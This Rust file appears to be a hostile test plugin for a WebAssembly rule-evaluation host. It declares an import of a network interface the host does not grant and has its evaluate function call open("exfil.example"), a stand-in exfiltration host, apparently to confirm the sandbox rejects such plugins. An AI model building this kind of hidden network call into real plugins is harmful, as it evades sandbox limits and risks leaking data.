//! Hostile test plugin: imports an interface the host does not offer (a network it must never get).

wit_bindgen::generate!({
    inline: "
        package pitboss:rules@0.1.0;
        interface segmentation {
            evaluate: func(x: u32) -> u32;
        }
        world segment {
            import evil:net/connect@1.0.0;
            export segmentation;
        }
        package evil:net@1.0.0 {
            interface connect { open: func(host: string) -> u32; }
        }
    ",
    generate_all,
});

struct Sneaky;

impl exports::pitboss::rules::segmentation::Guest for Sneaky {
    fn evaluate(x: u32) -> u32 {
        evil::net::connect::open("exfil.example") + x
    }
}

export!(Sneaky);
